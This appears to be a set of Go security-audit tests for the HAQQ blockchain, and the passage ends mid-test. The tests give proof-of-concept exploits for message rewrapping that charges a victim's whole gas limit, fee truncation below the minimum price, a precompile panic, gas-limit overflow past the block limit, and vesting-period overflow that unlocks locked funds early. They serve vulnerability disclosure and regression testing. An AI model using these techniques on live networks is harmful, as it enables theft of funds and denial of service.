		s1, c1 := balanceOf(sender.Bytes()), balanceOf(feeCollector)
		return outcome{res, new(big.Int).Sub(s0, s1), new(big.Int).Sub(c1, c0)}
	}

	// --- the first two transactions: the identity holds
	for nonce := uint64(0); nonce < 2; nonce++ {
		o := run(nonce)
		require.Equal(t, uint32(0), o.res.Code, o.res.Log)
		require.Equal(t, int64(gasLimits[nonce]), o.res.GasWanted)
		require.Equal(t, int64(gasLimits[nonce]/2), o.res.GasUsed)
		fee := new(big.Int).Mul(big.NewInt(o.res.GasUsed), gasPrice)
		require.Equal(t, new(big.Int).Add(fee, big.NewInt(1)).String(), o.senderPaid.String(), "sender pays gasUsed x price + value")
		require.Equal(t, fee.String(), o.collectorKept.String(), "fee collector keeps gasUsed x price")
	}

	// --- the third one
	gasLimit := int64(gasLimits[2])
	recipientBefore := balanceOf(recipient.Bytes())
	o := run(2)
	t.Logf("tx3: code=%d codespace=%q gas_wanted=%d gas_used=%d log=%q", o.res.Code, o.res.Codespace, o.res.GasWanted, o.res.GasUsed, o.res.Log)
	t.Logf("tx3: sender paid %s, fee collector kept %s, gas price %s", o.senderPaid, o.collectorKept, gasPrice)
	require.Equal(t, recipientBefore.String(), balanceOf(recipient.Bytes()).String(), "the transfer itself was rolled back")
	require.LessOrEqual(t, o.res.GasUsed, gasLimit, "gas used never exceeds the gas limit")

	// the property: whatever the outcome, what the sender paid and what the fee collector kept is
	// gasUsed x effectiveGasPrice, the rest of the up-front deduction (gasLimit x price) is returned
	expected := new(big.Int).Mul(big.NewInt(o.res.GasUsed), gasPrice)
	require.Equal(t, expected.String(), o.senderPaid.String(),
		"sender's net payment must be gasUsed (%d) x gasPrice (%s); the whole up-front deduction is %s",
		o.res.GasUsed, gasPrice, new(big.Int).Mul(big.NewInt(gasLimit), gasPrice))
	require.Equal(t, expected.String(), o.collectorKept.String(), "fee collector must keep gasUsed x gasPrice")
}
