package keeper_test

import (
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	testkeyring "github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// TestZZHuntRewrappedMessageIsChargedItsWholeGasLimit
//
// The Cosmos wrapper of an Ethereum transaction carries no signature of its own: only the
// MsgEthereumTx inside is signed. Anybody who sees a signed message (e.g. in the mempool) can put it
// into a wrapper of his own, next to a message that he signed himself and that makes the state
// transition return an error (here: 1 aISLM sent to the fee collector module account, which the
// StateDB commit refuses). The wrapper passes CheckTx and the ante handler in DeliverTx, both
// senders are charged gasLimit x price up front, and when the second message errors the whole tx is
// dropped: the victim's message was executed by the EVM (21000 gas), its effects are thrown away,
// its nonce is consumed and it is charged its *whole gas limit* instead of
// max(gas consumed, minGasMultiplier x gasLimit).
func TestZZHuntRewrappedMessageIsChargedItsWholeGasLimit(t *testing.T) {
	kr := testkeyring.New(3)
	nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(kr.GetAllAccAddrs()...))
	const victim, attacker, recipient = 0, 1, 2

	bal := func(i int) sdkmath.Int {
		return nw.App.BankKeeper.GetBalance(nw.GetContext(), kr.GetAccAddr(i), nw.GetDenom()).Amount
	}
	sign := func(i int, args evmtypes.EvmTxArgs) *evmtypes.MsgEthereumTx {
		args.ChainID = nw.App.EvmKeeper.ChainID()
		args.Nonce = nw.App.EvmKeeper.GetNonce(nw.GetContext(), kr.GetAddr(i))
		msg := evmtypes.NewTx(&args)
		msg.From = kr.GetAddr(i).Hex()
		signer := ethtypes.LatestSignerForChainID(nw.App.EvmKeeper.ChainID())
		require.NoError(t, msg.Sign(signer, utiltx.NewSigner(kr.GetPrivKey(i))))
		return msg
	}

	ctx := nw.GetContext()
	ethCfg := nw.App.EvmKeeper.GetParams(ctx).ChainConfig.EthereumConfig(nw.App.EvmKeeper.ChainID())
	baseFee := nw.App.EvmKeeper.GetBaseFee(ctx, ethCfg)
	// legacy gas price; twice the base fee so that the CheckTx state (one block behind) accepts it too
	price := new(big.Int).Mul(baseFee, big.NewInt(2))
	minGasMultiplier := nw.App.FeeMarketKeeper.GetParams(ctx).MinGasMultiplier // 0.5 by default

	// 1. the victim signs an ordinary transfer of 1000 aISLM with a generous gas limit ...
	to := kr.GetAddr(recipient)
	victimGasLimit := uint64(500_000)
	victimMsg := sign(victim, evmtypes.EvmTxArgs{To: &to, Amount: big.NewInt(1000), GasLimit: victimGasLimit, GasPrice: price})

	// 2. ... a third party signs a message of its own that makes the state transition error ...
	feeCollector := common.BytesToAddress(nw.App.AccountKeeper.GetModuleAddress(authtypes.FeeCollectorName))
	attackerMsg := sign(attacker, evmtypes.EvmTxArgs{To: &feeCollector, Amount: big.NewInt(1), GasLimit: 21_000, GasPrice: price})

	// 3. ... and wraps both into one Cosmos tx (the wrapper is not signed by anybody).
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	tx, err := utiltx.PrepareEthTx(txCfg, nw.App, nil, victimMsg, attackerMsg)
	require.NoError(t, err)
	bz, err := txCfg.TxEncoder()(tx)
	require.NoError(t, err)

	// honest nodes accept the wrapper into their mempool (code 0 on the unchanged tree)
	chk := nw.App.BaseApp.CheckTx(abci.RequestCheckTx{Tx: bz, Type: abci.CheckTxType_New})
	t.Logf("CheckTx code=%d log=%s", chk.Code, chk.Log)

	victimBefore, attackerBefore, recipientBefore := bal(victim), bal(attacker), bal(recipient)
	res, err := nw.BroadcastTxSync(bz)
	require.NoError(t, err)
	victimPaid := victimBefore.Sub(bal(victim))
	attackerPaid := attackerBefore.Sub(bal(attacker))
	received := bal(recipient).Sub(recipientBefore)
	t.Logf("DeliverTx code=%d gasWanted=%d gasUsed=%d log=%s", res.Code, res.GasWanted, res.GasUsed, res.Log)

	// what the victim's message costs on its own: max(21000, minGasMultiplier x gasLimit) x price
	gasUsed := sdk.MaxDec(sdk.NewDec(21_000), minGasMultiplier.MulInt64(int64(victimGasLimit))).TruncateInt()
	expected := gasUsed.Mul(sdkmath.NewIntFromBigInt(price))
	wholeLimit := sdkmath.NewIntFromUint64(victimGasLimit).Mul(sdkmath.NewIntFromBigInt(price))
	t.Logf("price %s aISLM; victim: gas limit %d, EVM gas 21000, gasUsed by the rule %s", price, victimGasLimit, gasUsed)
	t.Logf("victim paid %s (rule: %s, gasLimit x price: %s); attacker paid %s; recipient received %s; victim nonce now %d",
		victimPaid, expected, wholeLimit, attackerPaid, received, nw.App.EvmKeeper.GetNonce(nw.GetContext(), kr.GetAddr(victim)))

	if victimPaid.IsZero() {
		// the wrapper was refused before anything was charged: nothing to check
		require.NotEqual(t, uint32(0), res.Code)
		require.Equal(t, uint64(0), nw.App.EvmKeeper.GetNonce(nw.GetContext(), kr.GetAddr(victim)))
		return
	}
	require.Equal(t, expected.String(), victimPaid.String(),
		"the victim's net payment must be gasUsed x effectiveGasPrice with gasUsed = max(EVM gas, minGasMultiplier x gasLimit)")
	require.Equal(t, "1000", received.String(), "the victim paid for an executed transfer that was not delivered")
}
