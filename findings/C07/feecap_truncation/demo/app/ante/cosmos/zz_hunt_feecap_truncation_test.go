package cosmos_test

import (
	"testing"

	sdkmath "cosmossdk.io/math"
	cosmostx "github.com/cosmos/cosmos-sdk/client/tx"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	xauthsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	testkeyring "github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
)

// Property C07: no transaction is accepted in a block with a fee below
// gasLimit x MinGasPrice (in the EVM denomination).
//
// A plain Cosmos tx (bank MsgSend, SIGN_MODE_DIRECT, NO extension option) that declares exactly the
// minimum global fee ceil(MinGasPrice x gas) is accepted by MinGasPriceDecorator, but the fee that is
// really deducted is floor(declaredFee / gas) x gas (NewDynamicFeeChecker), which is below the floor
// as soon as MinGasPrice has a fractional part and there is no base fee to lift the price.
func TestZZHuntCosmosFeeCapTruncationBelowFloor(t *testing.T) {
	for _, tc := range []struct {
		name        string
		minGasPrice string
	}{
		{"min gas price 0.5", "0.5"},
		{"min gas price 1.5", "1.5"},
		{"min gas price 20000000000.9", "20000000000.9"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			kr := testkeyring.New(2)
			nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(kr.GetAllAccAddrs()...))
			denom := nw.GetDenom()

			// governance-settable fee market parameters: no base fee, fractional minimum gas price
			fmParams := nw.App.FeeMarketKeeper.GetParams(nw.GetContext())
			fmParams.NoBaseFee = true
			fmParams.MinGasPrice = sdk.MustNewDecFromStr(tc.minGasPrice)
			require.NoError(t, fmParams.Validate(), "the parameters are valid")
			require.NoError(t, nw.App.FeeMarketKeeper.SetParams(nw.GetContext(), fmParams))
			require.NoError(t, nw.NextBlock())

			const gas = uint64(200_000)
			floor := fmParams.MinGasPrice.MulInt64(int64(gas)).Ceil().RoundInt() // what the network demands
			declared := sdk.NewCoins(sdk.NewCoin(denom, floor))                  // the tx declares exactly that

			sender, recipient := kr.GetKey(0), kr.GetKey(1)
			sendAmt := sdkmath.NewInt(1000)
			msg := banktypes.NewMsgSend(sender.AccAddr, recipient.AccAddr, sdk.NewCoins(sdk.NewCoin(denom, sendAmt)))

			txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
			b := txCfg.NewTxBuilder()
			require.NoError(t, b.SetMsgs(msg))
			b.SetGasLimit(gas)
			b.SetFeeAmount(declared)

			acc := nw.App.AccountKeeper.GetAccount(nw.GetContext(), sender.AccAddr)
			signMode := signing.SignMode_SIGN_MODE_DIRECT
			require.NoError(t, b.SetSignatures(signing.SignatureV2{
				PubKey:   sender.Priv.PubKey(),
				Data:     &signing.SingleSignatureData{SignMode: signMode},
				Sequence: acc.GetSequence(),
			}))
			sig, err := cosmostx.SignWithPrivKey(signMode, xauthsigning.SignerData{
				ChainID:       nw.GetChainID(),
				AccountNumber: acc.GetAccountNumber(),
				Sequence:      acc.GetSequence(),
				Address:       sender.AccAddr.String(),
			}, b, sender.Priv, txCfg, acc.GetSequence())
			require.NoError(t, err)
			require.NoError(t, b.SetSignatures(sig))
			bz, err := txCfg.TxEncoder()(b.GetTx())
			require.NoError(t, err)

			collector := authtypes.NewModuleAddress(authtypes.FeeCollectorName)
			bal := func(a sdk.AccAddress) sdkmath.Int {
				return nw.App.BankKeeper.GetBalance(nw.GetContext(), a, denom).Amount
			}
			sender0, coll0 := bal(sender.AccAddr), bal(collector)

			res, err := nw.BroadcastTxSync(bz)
			require.NoError(t, err)
			require.Equal(t, uint32(0), res.Code, "the tx is accepted and executed: %s", res.Log)
			require.Equal(t, int64(gas), res.GasWanted)

			paid := sender0.Sub(bal(sender.AccAddr)).Sub(sendAmt)
			collected := bal(collector).Sub(coll0)
			t.Logf("MinGasPrice=%s gas=%d floor=%s declared=%s paid by sender=%s received by fee collector=%s",
				tc.minGasPrice, gas, floor, declared, paid, collected)

			require.True(t, collected.GTE(floor),
				"tx with gas limit %d accepted in a block paid %s%s, below gasLimit x MinGasPrice = %s%s",
				gas, collected, denom, floor, denom)
			require.True(t, paid.GTE(floor),
				"sender paid %s%s, below gasLimit x MinGasPrice = %s%s", paid, denom, floor, denom)
		})
	}
}
