package keeper_test

import (
	"math/big"
	"testing"

	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/testutil/integration/haqq/factory"
	"github.com/haqq-network/haqq/testutil/integration/haqq/grpc"
	testkeyring "github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// Property C07: for an Ethereum transaction that is delivered in a block the sender's net payment is
// exactly gasUsed x effectiveGasPrice, gasUsed being what DeliverTx reports (the larger of the EVM gas
// after refunds and minGasMultiplier x gasLimit, never more than gasLimit); the fee collector receives
// exactly that amount and the rest of the up-front deduction goes back to the sender.
//
// A call whose calldata is shorter than a 4-byte selector is an ordinary input for a contract (it is what
// a plain value transfer or `addr.call("")` produces). Sent to the staking / distribution / ICS-20 / bank
// precompile it makes RequiredGas slice input[:4] and panic: DeliverTx reports gas_used 0, nothing is
// refunded and the sender has paid gasLimit x price.
func TestZZHuntShortCalldataToPrecompile(t *testing.T) {
	keyring := testkeyring.New(2)
	nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(keyring.GetAllAccAddrs()...))
	gh := grpc.NewIntegrationHandler(nw)
	tf := factory.New(nw, gh)
	require.NoError(t, nw.NextBlock())

	denom := nw.GetDenom()
	collector := nw.App.AccountKeeper.GetModuleAddress(authtypes.FeeCollectorName)
	bal := func(a sdk.AccAddress) *big.Int {
		return nw.App.BankKeeper.GetBalance(nw.GetContext(), a, denom).Amount.BigInt()
	}
	multiplier := nw.App.FeeMarketKeeper.GetParams(nw.GetContext()).MinGasMultiplier
	price := big.NewInt(1_000_000_000) // legacy tx, 1 gwei: effective price == gas price (>= base fee)

	// deliver delivers one legacy Ethereum tx from account idx and checks the money-flow identity
	deliver := func(name string, idx int, args evmtypes.EvmTxArgs) abci.ResponseDeliverTx {
		args.GasPrice = price
		sender := keyring.GetAccAddr(idx)
		senderBefore, collectorBefore := bal(sender), bal(collector)

		res, _ := tf.ExecuteEthTx(keyring.GetPrivKey(idx), args) // the error only repeats res.Code / VmError

		senderPaid := new(big.Int).Sub(senderBefore, bal(sender))
		collectorGot := new(big.Int).Sub(bal(collector), collectorBefore)
		gasLimit := args.GasLimit
		gasUsed := uint64(res.GasUsed) //nolint:gosec
		minGasUsed := multiplier.MulInt64(int64(gasLimit)).TruncateInt().Uint64()
		t.Logf("%s: code=%d gas_wanted=%d gas_used=%d senderPaid=%s collectorGot=%s (gasLimit x price = %s)",
			name, res.Code, res.GasWanted, res.GasUsed, senderPaid, collectorGot,
			new(big.Int).Mul(new(big.Int).SetUint64(gasLimit), price))

		assert.LessOrEqual(t, gasUsed, gasLimit, "%s: gasUsed never exceeds gasLimit", name)
		assert.GreaterOrEqual(t, gasUsed, minGasUsed, "%s: gasUsed is at least minGasMultiplier x gasLimit", name)
		assert.Equal(t, new(big.Int).Mul(new(big.Int).SetUint64(gasUsed), price).String(), senderPaid.String(),
			"%s: sender's net payment must be gasUsed x effectiveGasPrice", name)
		assert.Equal(t, senderPaid.String(), collectorGot.String(),
			"%s: the fee collector receives exactly what the sender paid", name)
		return res
	}

	staking := common.HexToAddress("0x0000000000000000000000000000000000000800")

	// sanity: the identity holds for an ordinary (zero-value) transaction between the two accounts
	to := keyring.GetAddr(1)
	res := deliver("plain transfer", 0, evmtypes.EvmTxArgs{To: &to, GasLimit: 100_000})
	require.True(t, res.IsOK(), res.Log)

	// 1. an EOA sends a plain transaction (no calldata, no value) to the staking precompile
	deliver("empty calldata to 0x…0800", 0, evmtypes.EvmTxArgs{To: &staking, GasLimit: 100_000})

	// 2. a victim calls a contract that makes an inner CALL with empty calldata to the precompile and
	//    ignores the result: PUSH1 0 x5, PUSH2 0x0800, GAS, CALL, STOP. On any EVM the outer call succeeds.
	runtime := "600060006000600060006108005af100"
	initCode := common.FromHex("0x601080600b6000396000f3" + runtime)
	deployerNonce := nw.App.EvmKeeper.GetNonce(nw.GetContext(), keyring.GetAddr(1))
	res = deliver("deploy forwarder", 1, evmtypes.EvmTxArgs{GasLimit: 200_000, Input: initCode})
	require.True(t, res.IsOK(), res.Log)
	fwd := crypto.CreateAddress(keyring.GetAddr(1), deployerNonce)
	require.NoError(t, nw.NextBlock())

	res = deliver("victim calls forwarder", 0, evmtypes.EvmTxArgs{To: &fwd, GasLimit: 300_000})
	assert.True(t, res.IsOK(), "the failure of an inner call whose result is ignored must not fail the tx: %s", res.Log)
}
