package keeper_test

import (
	"math"
	"math/big"
	"testing"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	ethtypes "github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	testkeyring "github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// TestZZHuntGasLimitSumOfMessagesWraps
//
// The gas limit of an Ethereum tx is the sum of the gas limits of its messages. Every message may
// carry up to 2^63-1 gas, the sum is accumulated in a uint64 without an overflow check (ante
// handler: EthValidateBasicDecorator and EthGasConsumeDecorator; the same sum is what the unsigned
// Cosmos wrapper must declare as AuthInfo.Fee.GasLimit). Three messages with 2^63-1, 2^63-1 and
// 100002 gas add up to 2^64 + 100000, i.e. to a tx gas limit of 100000: the tx is admitted as a
// 100000-gas tx (block gas limit check, feemarket gas wanted, CometBFT's gas accounting), the EVM is
// handed 2^63-1 gas per message, and DeliverTx reports a gas_used far above gas_wanted.
func TestZZHuntGasLimitSumOfMessagesWraps(t *testing.T) {
	kr := testkeyring.New(2)
	nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(kr.GetAllAccAddrs()...))
	ctx := nw.GetContext()

	// The default parameters (MinGasPrice 0, BaseFeeChangeDenominator 8) let the base fee of an idle
	// chain decay to 7 aISLM, where it stays. Start from there instead of producing ~150 empty blocks.
	fp := nw.App.FeeMarketKeeper.GetParams(ctx)
	fp.BaseFee = sdkmath.NewInt(7)
	require.NoError(t, nw.App.FeeMarketKeeper.SetParams(ctx, fp))
	// the sender needs sum(gasLimit) x price for the up-front deduction: ~129 ISLM at 7 aISLM per gas
	require.NoError(t, nw.FundAccount(kr.GetAccAddr(0), sdk.NewCoins(sdk.NewCoin(nw.GetDenom(), sdkmath.NewInt(130).MulRaw(1e18)))))
	require.NoError(t, nw.NextBlock())
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	ethCfg := nw.App.EvmKeeper.GetParams(ctx).ChainConfig.EthereumConfig(nw.App.EvmKeeper.ChainID())
	baseFee := nw.App.EvmKeeper.GetBaseFee(ctx, ethCfg)
	require.Equal(t, "7", baseFee.String())

	to := kr.GetAddr(1)
	nonce := nw.App.EvmKeeper.GetNonce(ctx, kr.GetAddr(0))
	gasLimits := []uint64{math.MaxInt64, math.MaxInt64, 100_002}
	trueSum := new(big.Int)
	var msgs []sdk.Msg
	for i, g := range gasLimits {
		args := evmtypes.EvmTxArgs{
			ChainID: nw.App.EvmKeeper.ChainID(), Nonce: nonce + uint64(i), To: &to, Amount: big.NewInt(1),
			GasLimit: g, GasPrice: new(big.Int).Set(baseFee),
		}
		msg := evmtypes.NewTx(&args)
		msg.From = kr.GetAddr(0).Hex()
		require.NoError(t, msg.Sign(ethtypes.LatestSignerForChainID(args.ChainID), utiltx.NewSigner(kr.GetPrivKey(0))))
		msgs = append(msgs, msg)
		trueSum.Add(trueSum, new(big.Int).SetUint64(g))
	}
	upFront := new(big.Int).Mul(trueSum, baseFee)

	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	tx, err := utiltx.PrepareEthTx(txCfg, nw.App, nil, msgs...)
	require.NoError(t, err)
	bz, err := txCfg.TxEncoder()(tx)
	require.NoError(t, err)

	chk := nw.App.BaseApp.CheckTx(abci.RequestCheckTx{Tx: bz, Type: abci.CheckTxType_New})
	t.Logf("CheckTx   code=%d gasWanted=%d log=%s", chk.Code, chk.GasWanted, chk.Log)
	res, err := nw.BroadcastTxSync(bz)
	require.NoError(t, err)
	t.Logf("sum of the messages' gas limits: %s (up-front deduction %s aISLM)", trueSum, upFront)
	t.Logf("DeliverTx code=%d gasWanted=%d gasUsed=%d (as uint64: %d)", res.Code, res.GasWanted, res.GasUsed, uint64(res.GasUsed))

	if res.Code != 0 {
		return // refused: nothing to check
	}
	require.LessOrEqual(t, uint64(res.GasUsed), uint64(res.GasWanted),
		"the gas used by an accepted tx must not exceed its gas limit")
	require.Equal(t, trueSum.String(), new(big.Int).SetUint64(uint64(res.GasWanted)).String(),
		"the gas limit of an accepted tx must be the sum of the gas limits of its messages")
}

// TestZZHuntGasLimitSumWrapsPastBlockGasLimit is the same tx on a chain with a block gas limit of
// 10,000,000: the ante handler compares the wrapped sum (100000) with the block gas limit and lets the
// tx in; the first message then burns 30,000,000 gas of real EVM computation (it could burn up to
// 2^63-1) before the block gas meter fails the tx.
func TestZZHuntGasLimitSumWrapsPastBlockGasLimit(t *testing.T) {
	const blockMaxGas = 10_000_000
	kr := testkeyring.New(2)
	nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(kr.GetAllAccAddrs()...))
	ctx := nw.GetContext()
	fp := nw.App.FeeMarketKeeper.GetParams(ctx)
	fp.BaseFee = sdkmath.NewInt(7)
	require.NoError(t, nw.App.FeeMarketKeeper.SetParams(ctx, fp))
	cp := nw.App.BaseApp.GetConsensusParams(ctx)
	cp.Block.MaxGas = blockMaxGas
	nw.App.BaseApp.StoreConsensusParams(ctx, cp)
	require.NoError(t, nw.FundAccount(kr.GetAccAddr(0), sdk.NewCoins(sdk.NewCoin(nw.GetDenom(), sdkmath.NewInt(130).MulRaw(1e18)))))
	require.NoError(t, nw.NextBlock())
	require.NoError(t, nw.NextBlock())

	price := big.NewInt(7)
	sign := func(nonceInc uint64, args evmtypes.EvmTxArgs) sdk.Msg {
		args.ChainID = nw.App.EvmKeeper.ChainID()
		args.Nonce = nw.App.EvmKeeper.GetNonce(nw.GetContext(), kr.GetAddr(0)) + nonceInc
		args.GasPrice = price
		msg := evmtypes.NewTx(&args)
		msg.From = kr.GetAddr(0).Hex()
		require.NoError(t, msg.Sign(ethtypes.LatestSignerForChainID(args.ChainID), utiltx.NewSigner(kr.GetPrivKey(0))))
		return msg
	}
	deliver := func(msgs ...sdk.Msg) abci.ResponseDeliverTx {
		txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
		tx, err := utiltx.PrepareEthTx(txCfg, nw.App, nil, msgs...)
		require.NoError(t, err)
		bz, err := txCfg.TxEncoder()(tx)
		require.NoError(t, err)
		res, err := nw.BroadcastTxSync(bz)
		require.NoError(t, err)
		return res
	}

	// a contract that loops while gasleft() > 2^63-1-30,000,000, i.e. burns 30M gas of a 2^63-1 gas call:
	// JUMPDEST GAS PUSH8 thr LT PUSH1 0 JUMPI STOP
	thr := uint64(math.MaxInt64) - 30_000_000
	runtime := []byte{0x5b, 0x5a, 0x67}
	for i := 7; i >= 0; i-- {
		runtime = append(runtime, byte(thr>>(8*uint(i))))
	}
	runtime = append(runtime, 0x10, 0x60, 0x00, 0x57, 0x00)
	initCode := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, runtime...)
	deployNonce := nw.App.EvmKeeper.GetNonce(nw.GetContext(), kr.GetAddr(0))
	res := deliver(sign(0, evmtypes.EvmTxArgs{GasLimit: 300_000, Input: initCode}))
	require.Equal(t, uint32(0), res.Code, res.Log)
	burner := crypto.CreateAddress(kr.GetAddr(0), deployNonce)
	require.NoError(t, nw.NextBlock())

	to := kr.GetAddr(1)
	before := nw.App.BankKeeper.GetBalance(nw.GetContext(), kr.GetAccAddr(0), nw.GetDenom()).Amount
	res = deliver(
		sign(0, evmtypes.EvmTxArgs{To: &burner, GasLimit: math.MaxInt64}),
		sign(1, evmtypes.EvmTxArgs{To: &to, GasLimit: math.MaxInt64}),
		sign(2, evmtypes.EvmTxArgs{To: &to, GasLimit: 100_002}),
	)
	paid := before.Sub(nw.App.BankKeeper.GetBalance(nw.GetContext(), kr.GetAccAddr(0), nw.GetDenom()).Amount)
	t.Logf("block gas limit %d; DeliverTx code=%d gasWanted=%d gasUsed=%d sender paid %s aISLM; log=%s",
		blockMaxGas, res.Code, res.GasWanted, uint64(res.GasUsed), paid, res.Log)
	if paid.IsZero() {
		return // refused by the ante handler: nothing was executed
	}
	require.LessOrEqual(t, uint64(res.GasUsed), uint64(blockMaxGas),
		"a tx was executed with more gas than the block gas limit allows (its messages declare 2^64+100000 gas)")
}
