package keeper_test

import (
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"

	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	liquidtypes "github.com/haqq-network/haqq/x/liquidvesting/types"
	"github.com/haqq-network/haqq/x/vesting/types"
)

// Property (C09): "A schedule read at time t yields the sum of all periods
// ended by t ... Merging a grant yields exactly the union of both schedules'
// release events, so at every instant after both have started it releases the
// sum of the two."
//
// Period lengths are only checked to be >= 1; their running sum is an int64
// that may wrap around. A schedule whose LAST event wraps to a negative time
// gives the account a negative EndTime, and ReadSchedule answers "everything"
// for every read time >= EndTime. The wrapped end time survives a merge
// (DisjunctPeriods returns the time of the last emitted event), so every grant
// merged into such an account is released at once.
//
//	G -> L : 3000 ISLM, vested at once, locked in 3 steps of 100000 s  (honest grant)
//	L -> V : MsgCreateClawbackVestingAccount, 2 aISLM, two periods of 2^62 s each
//	L      : MsgLiquidate 3000 ISLM, MsgRedeem of the liquid token into V
//	V      : MsgSend 2999 ISLM to a fresh address, long before the first unlock
func (suite *KeeperTestSuite) TestZZPeriodLengthOverflowReleasesMergedGrant() {
	suite.SetupTest()
	suite.Commit()

	gAddr, _ := utiltx.NewAccAddressAndKey()
	lAddr, lPriv := utiltx.NewAccAddressAndKey()
	vAddr, vPriv := utiltx.NewAccAddressAndKey()
	outAddr, _ := utiltx.NewAccAddressAndKey()

	isl := sdkmath.NewIntWithDecimal(1, 18)
	locked := sdk.NewCoin("aISLM", isl.MulRaw(3000))
	third := sdk.NewCoins(sdk.NewCoin("aISLM", isl.MulRaw(1000)))
	free := sdk.NewCoin("aISLM", isl.MulRaw(10))

	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, gAddr, sdk.NewCoins(locked)))
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, lAddr, sdk.NewCoins(free)))

	grantStart := suite.ctx.BlockTime().Add(-10 * time.Second)
	lockup := sdkvesting.Periods{
		{Length: 100000, Amount: third},
		{Length: 100000, Amount: third},
		{Length: 100000, Amount: third},
	}
	_, err := suite.app.VestingKeeper.ConvertIntoVestingAccount(suite.ctx, types.NewMsgConvertIntoVestingAccount(
		gAddr, lAddr, grantStart, lockup, nil, false, false, nil,
	))
	suite.Require().NoError(err)
	suite.CommitAfter(1000 * time.Second)

	bk := suite.app.BankKeeper
	suite.Require().Equal(free.Amount.String(), bk.SpendableCoins(suite.ctx, lAddr).AmountOf("aISLM").String(),
		"the grant is locked in L")

	// L -> V: two periods of 2^62 seconds; every length passes ValidateBasic (>= 1)
	one := sdk.NewCoins(sdk.NewInt64Coin("aISLM", 1))
	huge := sdkvesting.Periods{{Length: 1 << 62, Amount: one}, {Length: 1 << 62, Amount: one}}
	msgCreate := types.NewMsgCreateClawbackVestingAccount(lAddr, vAddr, suite.ctx.BlockTime(), huge, huge, false)
	if err := msgCreate.ValidateBasic(); err != nil {
		// a fixed tree refuses the schedule: nothing left to show
		suite.T().Logf("schedule refused by ValidateBasic: %v", err)
		return
	}
	res, err := testutil.DeliverTx(suite.ctx, suite.app, lPriv, nil, signing.SignMode_SIGN_MODE_DIRECT, msgCreate)
	if err != nil || res.Code != 0 {
		// a fixed tree refuses the schedule: nothing left to show
		suite.T().Logf("create refused: %v %s", err, res.Log)
		return
	}
	suite.Commit()

	va, err := suite.app.VestingKeeper.GetClawbackVestingAccount(suite.ctx, vAddr)
	suite.Require().NoError(err)
	suite.T().Logf("V after creation: start=%d end=%d Validate()=%v", va.GetStartTime(), va.GetEndTime(), va.Validate())

	liquid := sdk.NewCoin(liquidtypes.DenomBaseNameFromID(suite.app.LiquidVestingKeeper.GetDenomCounter(suite.ctx)), locked.Amount)
	res, err = testutil.DeliverTx(suite.ctx, suite.app, lPriv, nil, signing.SignMode_SIGN_MODE_DIRECT,
		liquidtypes.NewMsgLiquidate(lAddr, lAddr, locked),
		liquidtypes.NewMsgRedeem(lAddr, vAddr, liquid),
	)
	suite.Require().NoError(err)
	suite.Require().Equal(uint32(0), res.Code, res.Log)
	suite.CommitAfter(10 * time.Second)

	now := suite.ctx.BlockTime()
	firstUnlock := grantStart.Unix() + 100000
	suite.Require().Less(now.Unix(), firstUnlock)

	va, err = suite.app.VestingKeeper.GetClawbackVestingAccount(suite.ctx, vAddr)
	suite.Require().NoError(err)

